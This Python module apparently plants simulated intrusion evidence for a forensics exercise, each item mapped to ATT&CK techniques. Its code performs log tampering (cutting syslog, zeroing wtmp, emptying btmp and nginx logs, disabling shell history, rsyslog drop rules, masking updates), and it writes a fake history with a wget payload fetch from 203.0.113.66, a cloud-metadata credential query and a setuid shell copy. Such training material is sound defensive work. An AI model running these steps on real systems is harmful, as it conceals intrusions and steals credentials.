"""Tampered logs and histories, and what honest logs tell."""
import os
import random

from parts import logs
from parts.unit import Register, require

plant = Register("plant")
INTRUDER = "203.0.113.66"


def insert(g, path, lines):
    """Puts lines with their moments into a log that its daemon keeps open.

    The file keeps its inode; the lines go where their time stamps belong.
    """
    own = [(text[:32], n, text) for n, text in enumerate(g.read(path).splitlines(keepends=True))]
    new = [(text[:32], -1, text) for _, text in lines]
    data = "".join(text for _, _, text in sorted(own + new))
    with open(path, "r+", encoding="utf-8") as file:
        file.write(data)
        file.truncate()


@plant("P130", "password guessing against one account that succeeds", "T1110.001 T1110 T1078 T1078.003", ["deploy", INTRUDER], {"path": "/var/log/auth.log", "text": "Accepted password for deploy from 203.0.113.66"}, "ATT&CK T1110.001; Atomic T1110.001-3")
def guessed_password(g):
    r, start = random.Random("guess"), g.now - 3 * 3600
    lines = logs.guessing(r, start, INTRUDER, 160, "deploy")
    end = max(moment for moment, _ in lines) + 3
    lines += [logs.line(end, "sshd[2101]", f"Accepted password for deploy from {INTRUDER} port 51844 ssh2"),
              logs.line(end + .02, "sshd[2101]", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")]
    insert(g, "/var/log/auth.log", lines)
    with open("/var/log/wtmp", "ab") as file:
        file.write(logs.utmp(7, end, "deploy", "pts/2", INTRUDER, 2101, "ts/2"))


@plant("P131", "hours cut out of syslog", "T1070.002 T1070 T1562.012", ["/var/log/syslog"], {"path": "/var/log/syslog"}, "ATT&CK T1070.002; Atomic T1070.002",
       check=lambda g: require(not _between(g), "lines are still there"))
def log_gap(g):
    first, last = logs.iso(g.now - 30 * 3600)[:19], logs.iso(g.now - 2 * 3600)[:19]
    g.notes["gap"] = [first, last]
    kept = [line for line in g.read("/var/log/syslog").splitlines(keepends=True) if not first <= line[:19] < last]
    with open("/var/log/syslog", "r+", encoding="utf-8") as file:
        file.write("".join(kept))
        file.truncate()


def _between(g):
    """Lines of syslog inside the gap."""
    first, last = g.notes["gap"]
    return [line for line in g.read("/var/log/syslog").splitlines() if first <= line[:19] < last]


@plant("P132", "login records overwritten with zeros", "T1070.002 T1070", ["wtmp"], {"path": "/var/log/wtmp"}, "ATT&CK T1070.002",
       check=lambda g: require(any(not any(data) for data in _records()), "no zeroed record"))
def zeroed_records(g):
    count = os.stat("/var/log/wtmp").st_size // 384
    with open("/var/log/wtmp", "r+b") as file:
        file.seek((count - 6) * 384)
        file.write(b"\0" * 384 * 3)


def _records():
    """The raw records of wtmp."""
    with open("/var/log/wtmp", "rb") as file:
        while data := file.read(384):
            yield data


@plant("P133", "failed logins emptied", "T1070.002 T1070", ["btmp"], {"path": "/var/log/btmp"}, "ATT&CK T1070.002; Atomic T1070.002-4",
       check=lambda g: require(os.stat("/var/log/btmp").st_size == 0, "not empty"))
def emptied_failures(g):
    with open("/var/log/btmp", "r+b") as file:
        file.truncate(0)


@plant("P134", "root's history is the null device", "T1070.003 T1562.003", ["/root/.bash_history"], {"path": "/root/.bash_history"}, "ATT&CK T1070.003; Atomic T1070.003-4",
       check=lambda g: require(os.readlink("/root/.bash_history") == "/dev/null", "no link"))
def null_history(g):
    os.unlink("/root/.bash_history")
    g.link("/dev/null", "/root/.bash_history")


@plant("P135", "history switched off in a login file", "T1562.003 T1070.003", ["/home/deploy/.bashrc"], {"path": "/home/deploy/.bashrc", "text": "unset HISTFILE"}, "ATT&CK T1562.003; Atomic T1562.003-1")
def history_off(g):
    g.append("/home/deploy/.bashrc", "export HISTSIZE=0\nunset HISTFILE\n")


@plant("P136", "syslog told to drop what concerns logins", "T1562.001 T1562.006 T1070.002", ["/etc/rsyslog.d/00-mail.conf"], {"path": "/etc/rsyslog.d/00-mail.conf", "text": "authpriv.*"}, "ATT&CK T1562.001; Atomic T1562.001 (rsyslog)")
def dropped_logins(g):
    g.write("/etc/rsyslog.d/00-mail.conf", "auth,authpriv.*  stop\n:msg, contains, \"203.0.113.\" stop\n")


@plant("P137", "automatic updates masked", "T1562.001 T1562", ["apt-daily-upgrade.timer"], {"path": "/etc/systemd/system/apt-daily-upgrade.timer"}, "ATT&CK T1562.001",
       check=lambda g: require(os.readlink("/etc/systemd/system/apt-daily-upgrade.timer") == "/dev/null", "not masked"))
def masked_updates(g):
    g.link("/dev/null", "/etc/systemd/system/apt-daily-upgrade.timer")
    g.link("/dev/null", "/etc/systemd/system/apt-daily.timer")


@plant("P138", "intruder's commands in a history", "T1059.004 T1105 T1082 T1033 T1552.005", ["/home/deploy/.bash_history"], {"path": "/home/deploy/.bash_history", "text": "169.254.169.254"}, "ATT&CK T1059.004, T1105; Atomic T1105-7, T1552.005-1")
def intruder_history(g):
    g.append("/home/deploy/.bash_history", "unset HISTFILE\nid; uname -a; w\nsudo -l\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"
             "wget -q http://203.0.113.66/p.tgz -O /var/tmp/.p.tgz && tar xzf /var/tmp/.p.tgz -C /var/tmp\nchmod +x /var/tmp/netd && nohup /var/tmp/netd -d &\nhistory -c\n")


@plant("P139", "log of passwords taken by the login hook", "T1556.003 T1056 T1074.001", ["/var/log/.pam.log", "/var/tmp/.fontcache"], {"path": ["/var/log/.pam.log", "/var/tmp/.fontcache"]}, "ATT&CK T1056")
def password_log(g):
    g.write("/var/log/.pam.log", "admin 198.51.100.23 Winter-2026!\ndeploy 10.20.0.40 c1-pipeline\n", 0o600)
    g.write("/var/tmp/.fontcache", "admin:Winter-2026!\n", 0o666)


@plant("P140", "web server's access log without the intruder's night", "T1070.002 T1070", ["/var/log/nginx/access.log.1"], {"path": "/var/log/nginx/access.log.1"}, "ATT&CK T1070.002",
       check=lambda g: require(os.stat("/var/log/nginx/access.log.1").st_size == 0, "not empty"))
def emptied_access_log(g):
    with open("/var/log/nginx/access.log.1", "r+b") as file:
        file.truncate(0)


@plant("P141", "sudo used by the web server's account", "T1548.003 T1078.003", ["www-data", "/var/log/auth.log"], {"path": "/var/log/auth.log", "text": "www-data : PWD=/var/www/shop"}, "ATT&CK T1548.003")
def web_sudo_log(g):
    at = g.now - 2 * 3600 + 700
    insert(g, "/var/log/auth.log", [
        logs.line(at, "sudo", "www-data : PWD=/var/www/shop ; USER=root ; COMMAND=/bin/bash -c 'cp /bin/bash /var/lib/misc/.sysv; chmod 4755 /var/lib/misc/.sysv'"),
        logs.line(at + .01, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)")])
